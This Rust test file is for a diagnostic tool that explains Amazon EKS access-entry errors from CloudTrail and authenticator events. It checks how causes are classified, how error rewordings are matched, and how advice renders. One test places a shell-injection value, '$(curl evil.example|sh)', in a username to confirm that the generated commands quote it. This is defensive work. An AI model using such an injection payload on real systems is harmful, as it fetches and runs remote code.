//! Every cause: its fixture diagnoses to its id, and its rendered output is
//! snapshot-tested in each format. Wording variants and no-finding cases.

use crate::support::*;
use eks_access_doctor_core::catalogue::{all_causes, cause_by_id};
use eks_access_doctor_core::facts::{AccessEntryFacts, Facts, Lookup, PrincipalFacts};
use eks_access_doctor_core::render::sns::MessageFormat;
use eks_access_doctor_core::render::{chatbot, json, markdown, slack, sns, text};
use serde_json::json;

#[test]
fn every_cause_has_a_fixture_diagnosed_to_its_id() {
    for cause in all_causes() {
        let d = diagnose_cause_fixture(cause);
        assert_eq!(cause_ids(&d).first(), Some(&cause.id), "fixture for {}", cause.id);
        assert_eq!(d.findings[0].severity(), cause.severity);
    }
}

/// The ledger of claims: every cause says where each fact it states comes from.
#[test]
fn every_cause_has_sources() {
    for cause in all_causes() {
        assert!(!cause.sources.is_empty(), "{} has no sources", cause.id);
        for source in cause.sources {
            let page = source.page;
            let repository = |name: &str| name.split('/').count() == 2 && !name.contains(' ');
            let known = page.starts_with("https://")
                || page.split_once(' ').is_some_and(|(repo, path)| repository(repo) && !path.is_empty())
                || page.split_once('#').is_some_and(|(repo, number)| repository(repo) && number.parse::<u32>().is_ok());
            assert!(known, "{}: source {page:?} is neither a page, `owner/repo path` nor `owner/repo#N`", cause.id);
            assert!(source.quote.len() >= 20, "{}: quote {:?} is too short to check", cause.id, source.quote);
        }
    }
}

#[test]
fn ids_are_unique_and_the_required_ones_exist() {
    let ids: Vec<_> = all_causes().map(|c| c.id).collect();
    let mut sorted = ids.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted.len(), ids.len(), "duplicate cause id");
    for required in [
        "auth-mode-irreversible",
        "missing-iam-permission",
        "config-map-migration-notice",
        "node-type-requires-role",
        "reserved-username-prefix",
        "reserved-group-prefix",
        "unbound-kubernetes-group",
        "service-linked-role",
        "access-policy-requires-standard",
        "access-entry-already-exists",
        "access-entries-disabled",
        "creator-admin-required-for-config-map",
        "unclassified",
    ] {
        assert!(cause_by_id(required).is_some(), "{required} missing");
    }
}

#[test]
fn rendered_output_of_every_cause_is_stable() {
    for cause in all_causes() {
        let d = diagnose_cause_fixture(cause);
        let f = &d.findings[0];
        insta::assert_snapshot!(format!("{}.text", cause.id), text::render(&d, false));
        insta::assert_snapshot!(format!("{}.markdown", cause.id), markdown::render(&d));
        insta::assert_json_snapshot!(format!("{}.json", cause.id), json::diagnosis(&d));
        insta::assert_json_snapshot!(format!("{}.slack", cause.id), slack::payload(&d, f));
        insta::assert_json_snapshot!(format!("{}.sns", cause.id), sns::message(&d, f, MessageFormat::Text));
        insta::assert_json_snapshot!(format!("{}.chatbot", cause.id), chatbot::notification(&d, f));
    }
}

#[test]
fn explicit_deny_variant_gets_organization_advice() {
    let d = diagnose(fixture_event("missing-iam-permission-explicit-deny.json"));
    assert_eq!(cause_ids(&d), ["missing-iam-permission"]);
    let f = &d.findings[0];
    assert!(f.explanation.contains("explicit Deny in a service control policy"), "{}", f.explanation);
    assert!(f.steps.iter().any(|s| s.contains("Organizations administrators")));
    assert_eq!(f.iam_policy.as_ref().unwrap()["Statement"][0]["Action"], "eks:AssociateAccessPolicy");
}

/// (fixture, new errorCode, new errorMessage, expected cause)
const WORDINGS: &[(&str, &str, &str, &str)] = &[
    ("reserved-username-prefix", "InvalidParameterException", "The username must not begin with [eks:, aws:, system:, amazon:, iam:].", "reserved-username-prefix"),
    ("reserved-username-prefix", "InvalidParameterException", "The username must not begin with eks:", "reserved-username-prefix"),
    ("reserved-username-prefix", "InvalidParameterException", "the Username must NOT begin with 'amazon:'", "reserved-username-prefix"),
    ("reserved-group-prefix", "InvalidParameterException", "The kubernetes group name system:bootstrappers is invalid, it cannot start with system:", "reserved-group-prefix"),
    ("reserved-group-prefix", "InvalidParameterException", "The Kubernetes group name \"eks:admins\" is invalid; it cannot start with eks:.", "reserved-group-prefix"),
    ("node-type-requires-role", "InvalidParameterException", "AccessEntry principalArn must be IAM role when using types [EC2_LINUX, EC2_WINDOWS, FARGATE_LINUX].", "node-type-requires-role"),
    ("node-type-requires-role", "InvalidParameterException", "AccessEntry principalArn must be IAM role when using types [EC2_LINUX, EC2_WINDOWS, FARGATE_LINUX, HYBRID_LINUX, EC2]", "node-type-requires-role"),
    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API_AND_CONFIG_MAP to CONFIG_MAP.", "auth-mode-irreversible"),
    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to CONFIG_MAP", "auth-mode-irreversible"),
    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to API_AND_CONFIG_MAP.", "auth-mode-irreversible"),
    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from CONFIG_MAP to API", "auth-mode-two-step"),
    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to API", "auth-mode-unchanged"),
    ("service-linked-role", "InvalidParameterException", "The caller is not allowed to modify access entries with a principalArn value of a Service Linked Role.", "service-linked-role"),
    ("access-policy-requires-standard", "InvalidParameterException", "This operation can only be performed on Access Entries with a type of 'STANDARD'", "access-policy-requires-standard"),
    ("access-entry-already-exists", "ResourceInUseException", "The specified access entry resource is already in use on this cluster", "access-entry-already-exists"),
    ("access-entries-disabled", "InvalidRequestException", "The cluster's authentication mode must be set to one of [API, API_AND_CONFIG_MAP] to perform this operation", "access-entries-disabled"),
    ("missing-iam-permission", "AccessDenied", "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in a permissions boundary", "missing-iam-permission"),
    ("missing-iam-permission", "AccessDeniedException", "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in an identity-based policy", "missing-iam-permission"),
    ("node-type-rejects-groups", "InvalidParameterException", "The specified username is invalid: setting username is not allowed when the type is \"EC2_LINUX\"", "node-type-rejects-groups"),
    ("invalid-policy-arn", "InvalidParameterException", "The specified policyArn could not be found.", "invalid-policy-arn"),
    ("access-scope-namespaces", "InvalidParameterException", "accessScope should not include namespaces if the type is not set as namespace", "access-scope-namespaces"),
    ("unclassified", "InvalidParameterException", "Something entirely new went wrong", "unclassified"),
];

#[test]
fn rewordings_still_match_their_cause() {
    for (fixture, code, message, want) in WORDINGS {
        let bytes = edited_fixture(&format!("{fixture}.json"), |record| {
            record["errorCode"] = json!(code);
            record["errorMessage"] = json!(message);
        });
        let d = diagnose(parse_one(&bytes));
        assert_eq!(cause_ids(&d).first(), Some(want), "{message:?}");
    }
}

#[test]
fn denials_distinguish_where_the_refusal_came_from() {
    let advice = |suffix: &str| {
        let bytes = edited_fixture("missing-iam-permission.json", |record| {
            record["errorMessage"] = json!(format!(
                "User: arn:aws:sts::111122223333:assumed-role/PlatformDeployer/jdoe is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu {suffix}"
            ));
        });
        diagnose(parse_one(&bytes)).findings[0].steps.join(" ")
    };
    assert!(advice("with an explicit deny in a service control policy").contains("organization"));
    assert!(advice("with an explicit deny in a permissions boundary").contains("permissions boundary"));
    assert!(advice("with an explicit deny in an identity-based policy").contains("Deny statement"));
    assert!(advice("because no identity-based policy allows the eks:CreateAccessEntry action").contains("Add the statement"));
}

#[test]
fn a_service_linked_principal_is_recognised_from_its_arn() {
    let bytes = edited_fixture("unclassified.json", |record| {
        record["requestParameters"]["principalArn"] =
            json!("arn:aws:iam::111122223333:role/aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS");
    });
    assert_eq!(cause_ids(&diagnose(parse_one(&bytes))).first(), Some(&"service-linked-role"));
}

#[test]
fn sample_events_without_problems_produce_no_finding() {
    for entry in std::fs::read_dir(events_dir().join("no-finding")).unwrap() {
        let path = entry.unwrap().path();
        let records = eks_access_doctor_core::input::parse_document(&std::fs::read(&path).unwrap());
        for record in records {
            match record.outcome.unwrap() {
                eks_access_doctor_core::input::Parsed::Event(event) => {
                    assert!(diagnose(*event).findings.is_empty(), "{}", path.display())
                }
                eks_access_doctor_core::input::Parsed::Ignored { .. } => {}
            }
        }
    }
}

#[test]
fn a_successful_update_that_only_sets_a_username_is_silent() {
    let bytes = edited_fixture("unbound-kubernetes-group.json", |record| {
        record["requestParameters"].as_object_mut().unwrap().remove("kubernetesGroups");
    });
    assert!(diagnose(parse_one(&bytes)).findings.is_empty());
}

#[test]
fn commands_quote_hostile_values() {
    let bytes = edited_fixture("reserved-username-prefix.json", |record| {
        record["requestParameters"]["username"] = json!("system:$(curl evil.example|sh)");
    });
    let d = diagnose(parse_one(&bytes));
    let commands = d.findings[0].commands.join("\n");
    assert!(commands.contains("'$(curl evil.example|sh)'"), "{commands}");
    assert!(!commands.contains(" $(curl"), "{commands}");
}

/// Every fixture in `events/variants/` (`CAUSE--VARIANT.json`): its cause, and its
/// rendered output snapshot-tested in the formats people read.
fn variants() -> Vec<(String, String)> {
    let mut found: Vec<(String, String)> = std::fs::read_dir(events_dir().join("variants"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter_map(|name| {
            let stem = name.strip_suffix(".json")?.to_string();
            let cause = stem.split_once("--")?.0.to_string();
            Some((stem, cause))
        })
        .collect();
    found.sort();
    found
}

#[test]
fn variant_fixtures_diagnose_to_their_cause_and_render_stably() {
    let variants = variants();
    assert!(variants.len() >= 4);
    for (stem, cause) in variants {
        let d = diagnose(fixture_event(&format!("variants/{stem}.json")));
        assert_eq!(cause_ids(&d).first().copied(), Some(cause.as_str()), "{stem}");
        insta::assert_snapshot!(format!("variant.{stem}.text"), text::render(&d, false));
        insta::assert_json_snapshot!(format!("variant.{stem}.json"), json::diagnosis(&d));
        insta::assert_json_snapshot!(format!("variant.{stem}.slack"), slack::payload(&d, &d.findings[0]));
        insta::assert_json_snapshot!(format!("variant.{stem}.chatbot"), chatbot::notification(&d, &d.findings[0]));
    }
}

/// Every ARN the advice writes for an event of another partition is in that partition.
#[test]
fn advice_stays_in_the_event_partition() {
    for (stem, partition) in [
        ("node-type-requires-role--govcloud", "aws-us-gov"),
        ("service-linked-role--china", "aws-cn"),
        ("pod-identity-role-other-account--china", "aws-cn"),
    ] {
        let d = diagnose(fixture_event(&format!("variants/{stem}.json")));
        assert_eq!(d.event.partition(), partition);
        let f = &d.findings[0];
        let all = [f.explanation.clone(), f.steps.join(" "), f.commands.join(" ")].join(" ");
        assert!(all.contains(&format!("arn:{partition}:")), "{stem}: {all}");
        assert!(!all.contains("arn:aws:"), "{stem} leaks the aws partition: {all}");
    }
}

#[test]
fn identity_center_callers_get_the_permission_set_route() {
    let d = diagnose(fixture_event("variants/missing-iam-permission--identity-center.json"));
    let f = &d.findings[0];
    let commands = f.commands.join("\n");
    assert!(!commands.contains("put-role-policy"), "{commands}");
    assert!(commands.contains("aws sso-admin put-inline-policy-to-permission-set"), "{commands}");
    assert!(commands.contains("aws sso-admin provision-permission-set") && commands.contains("--target-id 111122223333"), "{commands}");
    assert!(commands.contains("= PlatformEngineers ]") && commands.contains("--region eu-west-1"), "{commands}");
}

#[test]
fn named_organization_policies_are_named_and_read_not_patched() {
    let d = diagnose(fixture_event("variants/missing-iam-permission--scp-named.json"));
    let f = &d.findings[0];
    assert!(f.explanation.contains("arn:aws:organizations::999988887777:policy/o-a1b2c3d4e5/service_control_policy/p-k8sguard1"));
    assert!(f.commands[0].starts_with("aws organizations describe-policy --policy-id p-k8sguard1"), "{:?}", f.commands);
    assert!(!f.commands.iter().any(|c| c.contains("put-role-policy")), "{:?}", f.commands);
    let boundary = edited_fixture("missing-iam-permission.json", |record| {
        record["errorMessage"] = json!("User: arn:aws:sts::111122223333:assumed-role/PlatformDeployer/jdoe is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in a permissions boundary: arn:aws:iam::111122223333:policy/DeveloperBoundary");
    });
    let f = diagnose(parse_one(&boundary)).findings.remove(0);
    assert!(f.explanation.contains("arn:aws:iam::111122223333:policy/DeveloperBoundary"), "{}", f.explanation);
    assert!(f.commands[0].starts_with("aws iam get-policy-version --policy-arn arn:aws:iam::111122223333:policy/DeveloperBoundary"));
    assert!(!f.commands.iter().any(|c| c.contains("put-role-policy")), "{:?}", f.commands);
}

#[test]
fn already_exists_with_nothing_to_update_suggests_no_update() {
    let f = diagnose(fixture_event("access-entry-already-exists.json")).findings.remove(0);
    assert!(!f.commands.iter().any(|c| c.contains("update-access-entry")), "{:?}", f.commands);
    let with_groups = edited_fixture("access-entry-already-exists.json", |record| {
        record["requestParameters"]["kubernetesGroups"] = json!(["payments-deployers"]);
    });
    let f = diagnose(parse_one(&with_groups)).findings.remove(0);
    assert!(
        f.commands.iter().any(|c| c.contains("update-access-entry") && c.contains("--kubernetes-groups payments-deployers")),
        "{:?}",
        f.commands
    );
}

/// Lookups are planned from the causes that match, which match case-insensitively:
/// a reworded message is enriched as well as diagnosed.
#[test]
fn a_reworded_message_is_still_enriched() {
    let bytes = edited_fixture("service-linked-role.json", |record| {
        record["errorMessage"] =
            json!("the caller is not allowed to modify access entries with a principalArn value of a service linked role");
    });
    let plan = eks_access_doctor_core::catalogue::lookup_plan(&parse_one(&bytes));
    assert!(plan.cluster && plan.principal && !plan.access_entry, "{plan:?}");
    let plan = eks_access_doctor_core::catalogue::lookup_plan(&fixture_event("missing-iam-permission.json"));
    assert!(plan.is_empty(), "{plan:?}");
}

#[test]
fn risky_successes_need_their_facts_and_only_match_when_the_facts_say_so() {
    let cause = |id: &str| cause_by_id(id).unwrap();
    let with = |id: &str, facts: Facts| {
        cause_ids(&eks_access_doctor_core::diagnose(fixture_event(&cause_fixture(cause(id))), &facts)).contains(&id)
    };
    for id in ["short-lived-access-entry", "node-role-standard-entry", "access-entry-grants-nothing"] {
        assert!(!with(id, Facts::default()), "{id} matched without its fact");
        assert!(with(id, facts_for(cause(id))), "{id}");
    }
    assert!(!with("short-lived-access-entry", Facts { entry_lifetime: Lookup::Found(7200), ..Facts::default() }));
    let lambda_role = PrincipalFacts { trusted_services: vec!["lambda.amazonaws.com".into()], ..PrincipalFacts::default() };
    assert!(!with("node-role-standard-entry", Facts { principal: Lookup::Found(lambda_role), ..Facts::default() }));
    let granted = AccessEntryFacts {
        policies: vec!["arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy".into()],
        ..AccessEntryFacts::default()
    };
    assert!(!with("access-entry-grants-nothing", Facts { settled_entry: Lookup::Found(granted), ..Facts::default() }));
    // The trust policy is read from the lookup plan of any STANDARD role entry, though nothing matches yet.
    let plan = eks_access_doctor_core::catalogue::lookup_plan(&fixture_event("node-role-standard-entry.json"));
    assert!(plan.principal, "{plan:?}");
}

#[test]
fn an_admin_policy_on_namespaces_or_a_view_policy_is_not_a_cluster_wide_grant() {
    let edited = |edit: &dyn Fn(&mut serde_json::Value)| {
        cause_ids(&diagnose(parse_one(&edited_fixture("cluster-admin-policy-granted.json", edit)))).is_empty()
    };
    assert!(edited(&|d| d["requestParameters"]["accessScope"] = json!({"type": "namespace", "namespaces": ["team-a"]})));
    assert!(edited(&|d| d["requestParameters"]["policyArn"] = json!("arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy")));
    // AdminView reads every Secret of the cluster: flagged like the admin policies.
    assert!(!edited(&|d| d["requestParameters"]["policyArn"] = json!("arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminViewPolicy")));
    assert!(!edited(&|d| d["requestParameters"]["policyArn"] = json!("arn:aws-cn:eks::aws:cluster-access-policy/AmazonEKSAdminPolicy")));
}

/// `group-not-bound` on the authenticator's `access granted` line: judged on the
/// cluster's bindings, silent without them (a grant alone is no problem), and never
/// about Kubernetes' own `system:` groups.
#[test]
fn a_granted_line_is_checked_against_the_bindings_and_never_warned_about() {
    let granted = || fixture_event("authenticator/group-not-bound.json");
    let with = |bindings: Lookup<Vec<eks_access_doctor_core::kubernetes::Binding>>| {
        eks_access_doctor_core::diagnose(granted(), &Facts { bindings, ..Facts::default() })
    };
    // No bindings read, or the read failed: nothing at all, not even the fallback.
    assert!(diagnose(granted()).findings.is_empty());
    assert!(with(Lookup::Failed("the Kubernetes API is unreachable".into())).findings.is_empty());
    // Read: the unbound group is an error naming the near bound one.
    let d = with(Lookup::Found(sample_bindings()));
    assert_eq!(cause_ids(&d), ["group-not-bound"]);
    let f = &d.findings[0];
    assert!(
        f.explanation
            .contains("arn:aws:iam::111122223333:role/platform-admin authenticated to cluster payments-prod as \"platform-admin\""),
        "{}",
        f.explanation
    );
    assert!(!f.explanation.contains("system:authenticated"), "{}", f.explanation);
    assert!(f.steps.iter().any(|s| s.contains(r#"Did you mean the bound group "platform-admins" (1 character apart)?"#)), "{:?}", f.steps);
    let commands = f.commands.join("\n");
    assert!(commands.contains("update-access-entry") && commands.contains("$(aws iam get-role --role-name platform-admin"), "{commands}");
    assert!(commands.contains("kubectl get configmap aws-auth --namespace kube-system -o yaml"), "{commands}");
    insta::assert_snapshot!("group-not-bound--authenticator.text", text::render(&d, false));
    insta::assert_json_snapshot!("group-not-bound--authenticator.slack", slack::payload(&d, f));
    insta::assert_json_snapshot!("group-not-bound--authenticator.json", json::diagnosis(&d));
    insta::assert_snapshot!("group-not-bound--authenticator.markdown", markdown::render(&d));
    insta::assert_json_snapshot!("group-not-bound--authenticator.sns", sns::message(&d, f, MessageFormat::Text));
    insta::assert_json_snapshot!("group-not-bound--authenticator.chatbot", chatbot::notification(&d, f));
    // Every group bound (or Kubernetes' own): nothing.
    let line = fixture_text("authenticator/group-not-bound.json")
        .replace("[platform-admin system:authenticated]", "[platform-admins readonly system:masters system:authenticated]");
    let d = eks_access_doctor_core::diagnose(
        parse_one(line.as_bytes()),
        &Facts { bindings: Lookup::Found(sample_bindings()), ..Facts::default() },
    );
    assert!(d.findings.is_empty(), "{:?}", cause_ids(&d));
    // Only Kubernetes' own groups (a node), or none: not even an event.
    for groups in ["[system:bootstrappers system:nodes]", "[]"] {
        let line = fixture_text("authenticator/group-not-bound.json").replace("[platform-admin system:authenticated]", groups);
        let records = eks_access_doctor_core::input::parse_document(line.as_bytes());
        assert!(
            matches!(&records[0].outcome, Ok(eks_access_doctor_core::input::Parsed::Ignored { why, .. }) if why.reason() == "an authenticator line granting access"),
            "{groups}"
        );
    }
}

/// A saved audit with every flag replays as one `audit-flag` finding per flag, each with
/// its own advice.
#[test]
fn every_audit_flag_has_its_own_advice() {
    let records = eks_access_doctor_core::input::parse_document(fixture_text("audit/every-flag.json").as_bytes());
    let findings: Vec<_> = records
        .into_iter()
        .map(|r| match r.outcome {
            Ok(eks_access_doctor_core::input::Parsed::Event(event)) => diagnose(*event),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(findings.len(), 8);
    let mut explanations: Vec<&str> = findings.iter().map(|d| d.findings[0].explanation.as_str()).collect();
    explanations.dedup();
    assert_eq!(explanations.len(), 8);
    assert!(findings.iter().all(|d| cause_ids(d) == ["audit-flag"]));
    let node = findings.iter().find(|d| d.findings[0].explanation.contains("web-nodes")).unwrap();
    assert_eq!(
        node.findings[0].commands,
        [
            "aws eks delete-access-entry --cluster-name payments-prod --principal-arn arn:aws:iam::111122223333:role/web-nodes --region eu-west-1",
            "aws eks create-access-entry --cluster-name payments-prod --principal-arn arn:aws:iam::111122223333:role/web-nodes --type EC2_LINUX --region eu-west-1",
        ]
    );
    let saved_clean = r#"{"cluster": "c", "region": "r", "account": "1", "authentication_mode": "API", "principals": [], "gaps": []}"#;
    let records = eks_access_doctor_core::input::parse_document(saved_clean.as_bytes());
    assert!(matches!(&records[0].outcome, Ok(eks_access_doctor_core::input::Parsed::Ignored { .. })), "{records:?}");
}
